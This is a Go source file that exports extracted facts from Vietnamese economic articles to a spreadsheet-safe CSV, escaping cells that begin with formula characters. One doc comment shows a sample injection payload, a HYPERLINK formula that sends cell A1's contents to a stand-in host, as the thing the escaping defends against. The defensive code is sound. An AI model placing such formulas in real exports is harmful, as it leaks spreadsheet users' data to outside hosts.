package extract

import (
	"encoding/csv"
	"io"
	"strconv"
)

// CSVHeader names the columns WriteCSV writes, one row per fact.
var CSVHeader = []string{"file", "article_id", "title", "published", "indicator", "sector", "region", "region_2025",
	"period", "kind", "basis", "value", "unit", "estimate", "approx", "quote"}

// WriteCSV writes the facts of the articles as one table, UTF-8 with a byte
// order mark so that spreadsheet programs read the Vietnamese correctly.
// Values are plain decimals ("64220000000"), never exponents.
//
// Every text cell is spreadsheet-safe (see cell): a file name, title or quote
// that starts like a formula is written with an apostrophe in front, so Excel
// and LibreOffice show it as text instead of evaluating it. The value column
// is a number the extractor formatted and is written as is: "-3.2" (a fall
// of 3,2%) stays a number a spreadsheet can sum, and the estimate column is
// "true" or "false".
func WriteCSV(w io.Writer, articles []Article) error {
	if _, err := io.WriteString(w, "\ufeff"); err != nil {
		return err
	}
	cw := csv.NewWriter(w)
	cw.UseCRLF = true
	if err := cw.Write(CSVHeader); err != nil {
		return err
	}
	for _, a := range articles {
		for _, f := range a.Facts {
			row := []string{cell(a.File), cell(a.ID), cell(deref(a.Title)), cell(deref(a.Published)), cell(f.Indicator),
				cell(f.Sector), cell(f.Region), cell(deref(f.Region2025)), cell(deref(f.Period)), cell(f.Kind),
				cell(deref(f.Basis)), strconv.FormatFloat(f.Value, 'f', -1, 64), cell(f.Unit),
				strconv.FormatBool(f.Estimate), cell(f.Approx), cell(f.Quote)}
			if err := cw.Write(row); err != nil {
				return err
			}
		}
	}
	cw.Flush()
	return cw.Error()
}

// cell makes a text cell safe to open in a spreadsheet. A cell that starts
// with = + - @, a tab or a carriage return is a formula to Excel and
// LibreOffice (OWASP's "CSV injection"), and the byte order mark makes the
// file open in them directly:
//
//	Before: =HYPERLINK("http://x.example/?"&A1,"Xem thêm")   (a title copied from a page)
//	After:  '=HYPERLINK("http://x.example/?"&A1,"Xem thêm")  (text, shown as typed)
//
// "- Kim ngạch xuất khẩu …" (a quote from a list) gets the apostrophe too:
// a reader of the CSV strips one leading "'" before any of those six.
func cell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}

func deref(p *string) string {
	if p == nil {
		return ""
	}
	return *p
}
